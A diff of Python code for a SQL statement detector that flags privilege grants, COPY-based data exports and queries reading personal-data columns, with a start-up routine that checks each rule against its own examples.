+        if isinstance(tree, exp.Revoke):
+            self._add(result, "sql.grant", target, clean)
+            return
+        flagged = False
+        if any(p.split()[-1] == "public" for p in principals if p):
+            self._add(result, "sql.grant_public", target, clean)
+            flagged = True
+        if _ADMIN_PRIV.search(privileges):
+            self._add(result, "sql.grant_admin", ", ".join(principals) or "a role", clean)
+            flagged = True
+        if not flagged:
+            self._add(result, "sql.grant", target, clean)
+
+    def _copy(self, tree: exp.Copy, clean: str, result: SqlResult) -> None:
+        loading = bool(tree.args.get("kind"))
+        target = tree.this
+        files = tree.args.get("files") or []
+        m = _COPY_INTO_LOCATION.match(clean)
+        if m:  # Snowflake: COPY INTO @stage / 'scheme://…' FROM <table or query> is an unload
+            dest = m.group(1).strip("'")
+            result.locations.append(dest)
+            result.exports.append((dest, clean))
+            for f in files:
+                if isinstance(f, exp.Table):
+                    self._collect_tables(f, result, whole_rows=True, star=True)
+                else:
+                    self._collect(f, result)
+            return
+        if loading:
+            for f in files:
+                loc = _location(f)
+                if loc:
+                    result.locations.append(loc)
+            if isinstance(target, exp.Table):
+                name = _table_name(target)
+                if name:
+                    result.use(name)
+            return
+        dests = [d for d in (_location(f) for f in files) if d]
+        dest = dests[0] if dests else "a file"
+        whole = isinstance(target, exp.Table)
+        self._collect_tables(target, result, whole_rows=whole, star=whole)
+        if isinstance(target, exp.Subquery | exp.Select):
+            self._collect(target, result)
+        if dest.upper() in ("STDOUT", "STDIN"):
+            self._add(result, "sql.copy_stdout", self._copy_source(target), clean)
+        else:
+            result.locations.append(dest)
+            result.exports.append((dest, clean))
+
+    @staticmethod
+    def _copy_source(target: exp.Expression | None) -> str:
+        if isinstance(target, exp.Table):
+            return _table_name(target) or "a table"
+        return "a query's results"
+
+    # -- tables and columns -----------------------------------------------------------------
+
+    def _collect_tables(
+        self,
+        tree: exp.Expression | None,
+        result: SqlResult,
+        *,
+        whole_rows: bool = False,
+        star: bool = False,
+    ) -> list[str]:
+        if tree is None:
+            return []
+        ctes = {c.alias_or_name.lower() for c in tree.find_all(exp.CTE)}
+        names = []
+        for t in tree.find_all(exp.Table):
+            name = _table_name(t)
+            if not name or (not t.db and name in ctes):
+                continue
+            names.append(name)
+            use = result.use(name)
+            use.whole_rows = use.whole_rows or whole_rows
+            use.star = use.star or star
+        return names
+
+    def _collect(self, tree: exp.Expression, result: SqlResult) -> None:
+        """Every table touched, and each column mapped to the table(s) it can come from."""
+        ctes = {c.alias_or_name.lower() for c in tree.find_all(exp.CTE)}
+        scopes: dict[int, dict[str, str | None]] = {}
+
+        def real(t: exp.Table) -> str | None:
+            name = _table_name(t)
+            if not name or (not t.db and name in ctes):
+                return None
+            return name
+
+        for t in tree.find_all(exp.Table):
+            name = real(t)
+            if name:
+                result.use(name)
+
+        def sources(scope: exp.Expression) -> dict[str, str | None]:
+            key = id(scope)
+            if key in scopes:
+                return scopes[key]
+            found: dict[str, str | None] = {}
+            nodes: list[exp.Expression] = []
+            if isinstance(scope, exp.Update | exp.Delete) and isinstance(scope.this, exp.Table):
+                nodes.append(scope.this)
+            frm = scope.args.get("from_") or scope.args.get("from")
+            if isinstance(frm, exp.From):
+                nodes.append(frm.this)
+            using = scope.args.get("using")
+            if isinstance(using, list):
+                nodes.extend(using)
+            nodes.extend(j.this for j in scope.args.get("joins") or [])
+            for node in nodes:
+                if isinstance(node, exp.Table):
+                    name = real(node)
+                    found[node.alias_or_name.lower()] = name
+                    if name:
+                        found.setdefault(name, name)
+                        found.setdefault(name.rsplit(".", 1)[-1], name)
+                elif isinstance(node, exp.Expression):
+                    found[node.alias_or_name.lower()] = None
+            scopes[key] = found
+            return found
+
+        for sel in tree.find_all(exp.Select):
+            for proj in sel.expressions:
+                if isinstance(proj, exp.Star):
+                    for name in set(sources(sel).values()):
+                        if name:
+                            use = result.use(name)
+                            use.whole_rows = use.star = True
+        for col in tree.find_all(exp.Column):
+            scope = col.find_ancestor(exp.Select, exp.Update, exp.Delete)
+            if scope is None:
+                continue
+            srcs = sources(scope)
+            qualifier = col.table.lower()
+            if qualifier:
+                owner = srcs.get(qualifier)
+                tables = [owner] if owner else []
+            else:
+                tables = sorted({v for v in srcs.values() if v})
+            if not tables:
+                continue
+            projected = self._is_projection(col, scope)
+            if isinstance(col.this, exp.Star):
+                for name in tables:
+                    use = result.use(name)
+                    use.whole_rows = True
+                    use.star = use.star or projected
+                continue
+            column = col.name.lower()
+            for name in tables:
+                use = result.use(name)
+                use.columns.add(column)
+                if projected:
+                    use.read.add(column)
+
+    @staticmethod
+    def _is_projection(node: exp.Expression, scope: exp.Expression) -> bool:
+        if not isinstance(scope, exp.Select):
+            return False
+        while node.parent is not None and node.parent is not scope:
+            node = node.parent
+        return node.arg_key == "expressions"
+
+    # -- personal data ----------------------------------------------------------------------
+
+    def _pii_findings(self, result: SqlResult) -> None:
+        catalogued: list[str] = []
+        guessed: list[str] = []
+        for name, use in result.tables.items():
+            pii = self._pii(name)
+            if pii is None:
+                hits = sorted(use.read & COMMON_PII_COLUMNS)
+                guessed += [f"{name}.{c}" for c in hits]
+                continue
+            fields = {p.lower(): p for p in pii}
+            hits = sorted(fields) if use.star else sorted(set(fields) & use.read)
+            catalogued += [f"{name}.{fields[c]}" for c in hits]
+        if catalogued:
+            self._add(result, "sql.select_pii", ", ".join(catalogued), ", ".join(catalogued))
+        if guessed:
+            self._add(result, "sql.select_pii_uncatalogued", ", ".join(guessed), ", ".join(guessed))
+
+    def _add(
+        self, result: SqlResult, rule_id: str, target: str, evidence: str, data: str = "data"
+    ) -> None:
+        rule = RULES_BY_ID[rule_id]
+        result.findings.append(
+            Finding(
+                rule=rule.id,
+                category=rule.category,
+                reason=rule.reason.replace("{target}", target or "a table").replace("{data}", data),
+                risk=rule.risk,
+                verdict=rule.verdict,
+                evidence=evidence[:200],
+            )
+        )
+
+
+def verify_sql_rules(rules: Sequence[SqlRule] = SQL_RULES) -> None:
+    """Run every SQL rule's own examples; a rule that fails them stops start-up."""
+    detector = SqlDetector(_EXAMPLE_PII.get, company_domains=("example.com",))
+    for rule in rules:
+        for example in rule.match:
+            if rule.id not in {f.rule for f in detector.assess(example).findings}:
+                raise ConfigError(
+                    f"built-in rule {rule.id}: its example {example!r} should match but does not"
+                )
+        for example in rule.not_match:
+            if rule.id in {f.rule for f in detector.assess(example).findings}:
+                raise ConfigError(
+                    f"built-in rule {rule.id}: its example {example!r} should not match but does"
+                )
